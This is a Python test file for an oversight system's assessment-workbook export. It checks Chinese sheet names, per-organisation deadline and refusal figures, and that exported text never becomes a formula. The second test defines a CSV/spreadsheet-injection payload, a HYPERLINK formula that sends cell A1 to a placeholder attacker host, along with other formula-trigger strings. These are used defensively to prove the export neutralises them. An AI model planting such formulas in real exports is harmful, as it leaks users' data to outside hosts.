"""SUP-02: the assessment workbook — Chinese headers, one sheet per mechanism, and no text
ever becomes a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook
from oversight.domain import parse_period
from oversight.schemas import AssessmentOut, AssessmentRow, DeadlineFigures, RuleFigures
from oversight.service.export import ExportMeta, workbook
from oversight.views import period_out

FIGURES = {
    "due": 4,
    "met_on_time": 1,
    "met_late": 1,
    "breached": 2,
    "open": 1,
    "open_overdue": 1,
    "ended": 1,
    "provisional": 0,
    "on_time_rate": 0.25,
    "breach_rate": 0.5,
}
ORG = ["单位代码", "单位名称", "单位类别"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def table(name: str = "区生态环境局", code: str = "dept:ecology-environment") -> AssessmentOut:
    row = AssessmentRow(
        organisation=code,
        organisation_name=name,
        organisation_kind="dept",
        started=3,
        refusals=2,
        refusals_owned_matter=1,
        refusals_by_kind={"assistance.refused": 1, "inspection.support-refused": 1},
        flags=3,
        flags_by_kind={
            "assistance.obstruction-flagged": 2,
            "referral.onward-referral-suspected": 1,
            "referral.escalated": 0,
        },
        records_by_kind={
            "assistance.refusal-ruled:not-upheld": 1,
            "referral.onward-referral-decided:barred": 1,
            "secondment.guidance-recorded": 0,
        },
        unread_overdue=0,
        breached_after_rulings=1,
        refusals_after_rulings=1,
        flags_after_rulings=2,
        unread_overdue_after_rulings=0,
        confirmed=1,
        excused=1,
        referred=0,
        not_ruled=3,
        by_rule=[RuleFigures(rule="REF-07", **FIGURES), RuleFigures(rule="ASSIST-04", **FIGURES)],
        **FIGURES,
    )
    return AssessmentOut(
        period=period_out(parse_period("2026-Q4")),
        items=[row],
        total=1,
        totals=DeadlineFigures(**FIGURES),
    )


def meta(**filters: str) -> ExportMeta:
    return ExportMeta(
        export_id="0f0e8a52-1d7e-4d4c-9a0e-2b0c2f3d4e5f",
        issued_at=datetime(2026, 12, 6, 2, 0, tzinfo=UTC),
        issued_by="justice-bureau/officer",
        issued_by_org="justice-bureau",
        filters=filters,
    )


def test_sup_02_the_workbook_has_a_summary_and_a_sheet_per_mechanism() -> None:
    book = load_workbook(io.BytesIO(workbook(table(), meta())))
    assert book.sheetnames == [
        "汇总",
        "信息共享",
        "执法协助",
        "案件移送",
        "法制审核",
        "联合检查",
        "人员借调",
    ]
    summary = book["汇总"]
    assert summary["B2"].value == "2026-Q4"
    assert summary["B8"].value == meta().export_id
    header = [c.value for c in summary[10]]
    assert header[:5] == ["单位代码", "单位名称", "单位类别", "应履行（期限到期）", "按时履行"]
    assert [c.value for c in summary[11]][:6] == [
        "dept:ecology-environment",
        "区生态环境局",
        "区级部门",
        4,
        1,
        2,
    ]
    assert summary.cell(row=11, column=12).value == 0.25
    assert summary.cell(row=12, column=1).value == "合计"
    # SUP-01: the figures after rulings beside those before.
    assert header[13:18] == [
        "期内启动期限",
        "拒绝（协助、检查支持、移送配合）",
        "其中：拒绝本部门职责事项协助",
        "标记（推诿刁难、涉嫌再行移送、报请区政府）",
        "逾期未读（INFO-03）",
    ]
    assert [c.value for c in summary[11]][14:17] == [2, 1, 3]
    assert header[18:20] == ["逾期（认定后）", "拒绝（认定后）"]
    assert [c.value for c in summary[11]][18] == 1
    referral = book["案件移送"]
    assert [c.value for c in referral[4]][:5] == [
        "dept:ecology-environment",
        "区生态环境局",
        "区级部门",
        "REF-07",
        4,
    ]
    # Each mechanism's refusals, flags and records by kind (those found), on its sheet.
    org = ["dept:ecology-environment", "区生态环境局", "区级部门"]

    def rows_of(sheet: str) -> list[list[object]]:
        return [[c.value for c in r][:5] for r in book[sheet].iter_rows()]

    assistance = rows_of("执法协助")
    assert [*ORG, "事项", "件数"] in assistance
    assert [*org, "拒绝协助（ASSIST-03）", 1] in assistance
    assert [*org, "推诿刁难标记（ASSIST-02）", 2] in assistance
    assert [*org, "拒绝协助经司法局认定不成立", 1] in assistance
    assert [*ORG, "其中：拒绝本部门职责事项协助"] in [r[:4] for r in assistance]
    referral = rows_of("案件移送")
    assert [*org, "涉嫌再行移送、报区政府决定（REF-08）", 1] in referral
    assert [*org, "区政府决定：属再行移送，不予放行", 1] in referral
    assert not any(r[3] == "管辖异议报请区政府（REF-08）" for r in referral)  # none: not shown
    assert book["联合检查"]["A4"].value == "本期无该机制的期限"
    assert [*org, "拒绝配合检查（INSP-03）", 1] in rows_of("联合检查")


def test_sup_02_text_that_looks_like_a_formula_stays_text() -> None:
    for evil in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        content = workbook(table(name=evil, code=evil), meta(organisation=evil))
        book = load_workbook(io.BytesIO(content))
        summary = book["汇总"]
        for cell in (summary["A11"], summary["B11"]):
            assert cell.value == evil
            assert cell.data_type == "s", (evil, cell.data_type)
            assert cell.quotePrefix
        assert book["案件移送"]["B4"].data_type == "s"
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
            assert sheets
            assert not any(b"<f>" in package.read(n) for n in sheets)  # no formula at all
